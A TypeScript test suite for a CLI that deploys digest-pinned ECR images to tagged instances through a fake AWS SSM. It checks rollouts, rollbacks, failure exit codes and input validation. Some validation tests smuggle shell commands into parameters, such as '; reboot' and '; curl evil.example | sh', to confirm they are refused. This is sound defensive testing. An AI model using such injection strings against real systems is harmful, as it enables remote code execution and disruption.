import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PutParameterCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm'
import t, { type Test } from 'tap'
import { DEPLOY_DOCUMENT_NAME } from '../../controller/ssm/document.ts'
import type { FakeAws } from '../ground/fake-aws/index.ts'
import { testKeys } from '../ground/fake-aws/test-clients.ts'
import { loadGround } from '../ground/ground.ts'
import { type FleetStub, fleetStub, STUB_RELEASE_DIGEST, stubInstanceEnv } from '../support/fleet-stub.ts'
import { installDeployDocument, startFakeOnGround } from '../support/ground-aws.ts'
import { runController } from '../support/run-controller.ts'

// The controller CLI as CI runs it, against the fake SSM and ECR: the real document, SSM's parameter checks,
// rate control and the waiter, with a stand-in agent on each simulated instance.
const ground = loadGround()
// Each subtest starts its own fake AWS and stand-in fleet and spends most of its time waiting on SSM (the
// invocations it shows only after a moment, the controller's polls between reads): they run side by side.
t.jobs = 4
const v1 = ground.images.v1
const pinnedV1 = `${ground.registryHost}/${v1.repository}@${v1.digest}`

interface Fleet {
  aws: FakeAws
  ssm: SSMClient
  stub: FleetStub
  work: string
}

async function fleet(
  t: Test,
  modes: Record<string, 'ok' | 'unchanged' | 'unhealthy' | 'pullfail'>,
): Promise<Fleet> {
  const aws = await startFakeOnGround(ground, { ssm: { deliveryTimeoutMs: 500 } })
  t.teardown(() => aws.close())
  const stub = await fleetStub(t)
  for (const [id, mode] of Object.entries(modes)) {
    aws.ssm.addInstance({ id, tags: { Role: 'web' }, env: stubInstanceEnv(stub, id, mode) })
  }
  await installDeployDocument(aws, ground.region)
  const ssm = new SSMClient({ endpoint: aws.endpoint, region: ground.region, credentials: testKeys() })
  const work = await mkdtemp(join(tmpdir(), 'ecr-deploy-cli-'))
  t.teardown(() => rm(work, { recursive: true, force: true }))
  return { aws, ssm, stub, work }
}

function cli(f: Fleet, args: string[], extraEnv: Record<string, string> = {}) {
  return runController(f.aws, f.work, args, extraEnv)
}

const RELEASE = '/ecr-deploy/prod/web'
const release = (f: Fleet) => JSON.parse(f.aws.ssm.parameter(RELEASE) ?? '{}') as Record<string, unknown>

const deployArgs = [
  'deploy',
  '--environment',
  'prod',
  '--service',
  'web',
  '--image',
  v1.uri,
  '--targets',
  'tag:Role=web',
  '--timeout',
  '60',
]

t.test('deploys by tag to every tagged instance and reports each', async (t) => {
  const f = await fleet(t, {
    'i-0000000000000000a': 'ok',
    'i-0000000000000000b': 'unchanged',
    'i-0000000000000000c': 'ok',
  })
  const summary = join(f.work, 'summary.md')
  const output = join(f.work, 'output.txt')
  const result = await cli(f, [...deployArgs, '--max-concurrency', '1'], {
    GITHUB_ACTIONS: 'true',
    GITHUB_STEP_SUMMARY: summary,
    GITHUB_OUTPUT: output,
  })
  t.equal(result.code, 0, result.stderr)
  t.match(
    release(f),
    { environment: 'prod', service: 'web', image: pinnedV1, state: 'stable', spec: {} },
    'the release is recorded pinned to the digest, and marked stable once every instance took it',
  )
  t.equal(f.aws.ssm.parameter('/ecr-deploy/web'), undefined, 'the bare-image layout is not written')
  const calls = await f.stub.calls()
  t.equal(calls.length, 6, 'each instance pulled, then deployed')
  for (const call of calls.slice(0, 3)) t.match(call, ` pull --service web --release ${RELEASE}:1`)
  for (const call of calls.slice(3)) t.match(call, ` deploy --service web --release ${RELEASE}:1 --wait`)
  t.match(result.stdout, /release prod\/web version 1 is stable \(version 2\)/)
  t.match(result.stdout, /i-0000000000000000b {2}unchanged/)
  t.match(result.stdout, /2 succeeded, 1 unchanged, 0 failed/)
  const markdown = await readFile(summary, 'utf8')
  t.match(
    markdown,
    `| \` i-0000000000000000a \` | succeeded | \` 111111111111 \` → \` ${STUB_RELEASE_DIGEST.slice(7, 19)} \``,
  )
  const outputs = await readFile(output, 'utf8')
  t.match(outputs, new RegExp(`^digest<<(ecr_deploy_[0-9a-f-]+)\\n${v1.digest}\\n\\1$`, 'm'))
  t.match(outputs, /^release-version<<(ecr_deploy_[0-9a-f-]+)\n1\n\1$/m)
})

t.test('one unhealthy instance is a partial failure with its output tail and an annotation', async (t) => {
  const f = await fleet(t, { 'i-0000000000000000a': 'ok', 'i-0000000000000000b': 'unhealthy' })
  const result = await cli(f, [...deployArgs, '--max-errors', '1'], { GITHUB_ACTIONS: 'true' })
  t.equal(result.code, 10, 'partial failure exit code')
  t.match(result.stdout, /i-0000000000000000b failed: Failed: \[E_HEALTH_FAILED\] r2 did not become healthy/)
  t.match(result.stdout, /\| app: cannot open database/)
  t.match(result.stdout, /^::error title=web on i-0000000000000000b::Failed: \[E_HEALTH_FAILED\]/m)
  t.match(result.stderr, /^error \[E_PARTIAL_FAILURE\]: the deploy failed on 1 of 2 instance\(s\)/)
})

t.test(
  'a failed rollout is marked aborted and the stable version goes back to the instances that took it',
  async (t) => {
    const f = await fleet(t, { 'i-0000000000000000a': 'ok', 'i-0000000000000000b': 'unhealthy' })
    const stable = {
      format: 1,
      environment: 'prod',
      service: 'web',
      image: `${ground.registryHost}/${v1.repository}@sha256:${'2'.repeat(64)}`,
      spec: { env: { MODE: 'one' } },
      state: 'stable',
      origin: { actor: 'octocat', createdAt: '2026-03-01T12:00:00.000Z' },
    }
    await f.ssm.send(
      new PutParameterCommand({ Name: RELEASE, Value: JSON.stringify(stable), Type: 'String' }),
    )
    const result = await cli(f, [...deployArgs, '--max-errors', '1', '--json'], { GITHUB_ACTOR: 'hubot' })
    t.equal(result.code, 10)
    const report = JSON.parse(result.stdout) as {
      state: string
      rollback: { release: string; outcomes: Array<{ instanceId: string }> }
    }
    t.equal(report.state, 'aborted')
    t.equal(report.rollback.release, `${RELEASE}:1`)
    t.strictSame(
      report.rollback.outcomes.map((o) => o.instanceId),
      ['i-0000000000000000a'],
    )
    t.match(release(f), {
      image: pinnedV1,
      state: 'aborted',
      spec: { env: { MODE: 'one' } },
      replaces: { version: 1, image: stable.image },
      origin: { actor: 'hubot' },
    })
    const calls = await f.stub.calls()
    t.match(calls.at(-1), `i-0000000000000000a deploy --service web --release ${RELEASE}:1 --wait`)
  },
)

t.test('--spec: checked before anything is sent, then carried in the release', async (t) => {
  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
  const bad = join(f.work, 'bad.yaml')
  await writeFile(bad, 'env:\n  MODE: two\nprivileged: true\n')
  const refused = await cli(f, [...deployArgs, '--spec', bad])
  t.equal(refused.code, 2)
  t.match(refused.stderr, `--spec ${bad}: unknown key "privileged": remove it or check its spelling`)
  const changes = f.aws.calls.filter((call) => ['SendCommand', 'PutParameter'].includes(call.operation))
  t.strictSame(changes, [], 'nothing written or sent')
  const good = join(f.work, 'web.json')
  await writeFile(good, JSON.stringify({ env: { MODE: 'two' }, memory: '256m' }))
  const result = await cli(f, [...deployArgs, '--spec', good])
  t.equal(result.code, 0, result.stderr)
  t.match(release(f), { state: 'stable', spec: { env: { MODE: 'two' }, memory: '256m' } })
})

t.test('zero matched instances and an offline instance are failures', async (t) => {
  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
  const none = await cli(f, [
    'deploy',
    '--environment',
    'prod',
    '--service',
    'web',
    '--image',
    v1.uri,
    '--targets',
    'tag:Role=nothing',
    '--timeout',
    '60',
  ])
  t.equal(none.code, 11)
  t.match(none.stderr, /no instance matched the targets/)
  t.match(release(f), { state: 'aborted' }, 'a release that reached no instance is not stable')
  f.aws.faults.setInstanceOnline('i-0000000000000000a', false)
  const offline = await cli(f, deployArgs)
  t.equal(offline.code, 4, 'the pull before the switch could not reach it')
  t.match(offline.stdout, /i-0000000000000000a failed: TimedOut \(Delivery Timed Out\)/)
  t.match(
    offline.stdout,
    /no instance switched: the pull before the first wave failed on i-0000000000000000a/,
  )
})

t.test('bad input stops before any call that changes something', async (t) => {
  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
  const env = ['--environment', 'prod']
  const cases: Array<[string[], RegExp]> = [
    [
      ['deploy', '--service', 'web', '--image', v1.uri, '--targets', 'tag:Role=web'],
      /no environment: give --environment/,
    ],
    [
      ['deploy', ...env, '--service', 'web', '--image', `${v1.uri};reboot`, '--targets', 'tag:Role=web'],
      /E_IMAGE_REF_INVALID/,
    ],
    [
      ['deploy', ...env, '--service', 'web', '--image', v1.uri, '--targets', 'Role=web'],
      /--targets: "Role=web" is not a target/,
    ],
    [
      [
        'deploy',
        ...env,
        '--service',
        'web',
        '--image',
        v1.uri,
        '--targets',
        'tag:Role=web',
        '--max-concurrency',
        '150%',
      ],
      /--max-concurrency/,
    ],
    [
      ['deploy', ...env, '--service', 'Web', '--image', v1.uri, '--targets', 'tag:Role=web'],
      /service name "Web" is invalid/,
    ],
    [['deploy', ...env, '--service', 'web', '--image', v1.uri], /no target/],
  ]
  for (const [args, message] of cases) {
    const result = await cli(f, args)
    t.equal(result.code, 2, args.join(' '))
    t.match(result.stderr, message)
  }
  const missingTag = await cli(f, [
    'deploy',
    ...env,
    '--service',
    'web',
    '--image',
    `${ground.registryHost}/${v1.repository}:nope`,
    '--targets',
    'tag:Role=web',
  ])
  t.equal(missingTag.code, 4)
  t.match(missingTag.stderr, /:nope is not in ECR: push it first/)
  // The missing tag is found once the deploy lock is held: that lock, taken and deleted, is all it wrote.
  const changes = f.aws.calls.filter(
    (call) =>
      ['SendCommand', 'PutParameter'].includes(call.operation) &&
      call.input.Name !== '/ecr-deploy-lock/prod/web',
  )
  t.strictSame(changes, [], 'no SendCommand or PutParameter was made')
  t.equal(f.aws.ssm.parameter('/ecr-deploy-lock/prod/web'), undefined, 'the lock was released')
})

t.test('the document itself refuses an image that is not digest-pinned ECR', async (t) => {
  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
  const attempt = f.ssm.send(
    new SendCommandCommand({
      DocumentName: DEPLOY_DOCUMENT_NAME,
      InstanceIds: ['i-0000000000000000a'],
      Parameters: { action: ['deploy'], service: ['web'], image: [`${pinnedV1}; curl evil.example | sh`] },
    }),
  )
  await t.rejects(attempt, { name: 'InvalidParameters' })
  for (const bad of ['/ecr-deploy/prod/web:7; reboot', '/ecr-deploy/prod/web', '/app/prod/web:7']) {
    const refused = f.ssm.send(
      new SendCommandCommand({
        DocumentName: DEPLOY_DOCUMENT_NAME,
        InstanceIds: ['i-0000000000000000a'],
        Parameters: { action: ['deploy'], service: ['web'], release: [bad] },
      }),
    )
    await t.rejects(refused, { name: 'InvalidParameters' }, bad)
  }
  t.strictSame(await f.stub.calls(), [])
})

t.test('more than 50 instance ids: two commands, waited on together, every instance reported', async (t) => {
  const ids = Array.from({ length: 60 }, (_, i) => `i-${(0xa00 + i).toString(16).padStart(17, '0')}`)
  const unhealthy = ids[55] ?? ''
  const f = await fleet(t, Object.fromEntries(ids.map((id) => [id, id === unhealthy ? 'unhealthy' : 'ok'])))
  const result = await cli(f, [
    'deploy',
    '--environment',
    'prod',
    '--service',
    'web',
    '--image',
    v1.uri,
    '--instance-ids',
    ...ids,
    '--max-errors',
    '1',
    '--timeout',
    '60',
    '--json',
  ])
  t.equal(result.code, 10, result.stderr)
  const sent = f.aws.calls.filter((c) => c.operation === 'SendCommand')
  t.strictSame(
    sent.map((c) => [(c.input.Parameters as Record<string, string[]>).action?.[0], c.input.InstanceIds]),
    [
      ['pull', ids.slice(0, 50)],
      ['pull', ids.slice(50)],
      ['deploy', ids.slice(0, 50)],
      ['deploy', ids.slice(50)],
    ],
    'SendCommand takes 50 ids at most: 50, then 10, for the pull and then for the switch',
  )
  const { deploy: report } = JSON.parse(result.stdout) as {
    deploy: { commandIds: string[]; outcomes: Array<{ instanceId: string; result: string }> }
  }
  t.equal(new Set(report.commandIds).size, 2, 'both commands are in the report')
  t.strictSame(
    report.outcomes.map((o) => o.instanceId).sort(),
    [...ids].sort(),
    'one outcome per instance, from both commands',
  )
  t.strictSame(
    report.outcomes.filter((o) => o.result !== 'succeeded').map((o) => [o.instanceId, o.result]),
    [[unhealthy, 'failed']],
    'the failure in the second command is reported, the 59 others succeeded',
  )
  t.equal((await f.stub.calls()).length, 120, 'the agent pulled and deployed on every instance')
})

t.test('an instance that cannot pull stops the deploy before any switch, exit 4, named', async (t) => {
  const f = await fleet(t, { 'i-0000000000000000a': 'ok', 'i-0000000000000000b': 'pullfail' })
  const result = await cli(f, [...deployArgs, '--max-errors', '1'])
  t.equal(result.code, 4, result.stderr)
  t.match(result.stderr, /^error \[E_PULL_FAILED\]: 1 of 2 instance\(s\) could not pull/)
  t.match(
    result.stdout,
    /i-0000000000000000b failed: Failed: \[E_PULL_FAILED\] pull of the release image failed: no space left on device/,
  )
  t.match(result.stdout, /no instance switched: the pull before the first wave failed on i-0000000000000000b/)
  const calls = await f.stub.calls()
  t.strictSame(
    calls.map((line) => line.split(' ')[1]),
    ['pull', 'pull'],
    'no instance was sent the deploy',
  )
  t.match(release(f), { state: 'aborted' })

  const skipped = await fleet(t, { 'i-0000000000000000a': 'ok', 'i-0000000000000000b': 'pullfail' })
  const without = await cli(skipped, [...deployArgs, '--no-prepull'])
  t.equal(without.code, 0, without.stderr)
  t.strictSame(
    (await skipped.stub.calls()).map((line) => line.split(' ')[1]),
    ['deploy', 'deploy'],
    '--no-prepull: no pull is sent',
  )
})
